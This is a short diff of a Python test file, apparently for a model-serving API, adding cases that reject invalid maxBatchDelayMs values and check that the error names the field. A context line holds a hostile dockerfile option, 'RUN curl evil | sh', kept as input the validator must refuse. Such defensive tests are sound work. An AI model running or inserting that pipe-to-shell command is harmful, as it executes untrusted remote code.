@@ -114,6 +114,10 @@ def test_hostile_model_urls_are_invalid_model(client, url):
         ({"gpu": True, "optimizationLevel": "onnxruntime"}, "options.optimizationLevel"),
         ({"gpu": True, "optimizationLevel": "openvino"}, "options.optimizationLevel"),
         ({"dockerfile": "RUN curl evil | sh"}, "options.dockerfile"),
+        ({"maxBatchDelayMs": -1}, "options.maxBatchDelayMs"),
+        ({"maxBatchDelayMs": 1001}, "options.maxBatchDelayMs"),
+        ({"maxBatchDelayMs": "5"}, "options.maxBatchDelayMs"),
+        ({"maxBatchDelayMs": 2.5}, "options.maxBatchDelayMs"),
     ],
 )
 def test_bad_options_name_the_field(client, options, field):
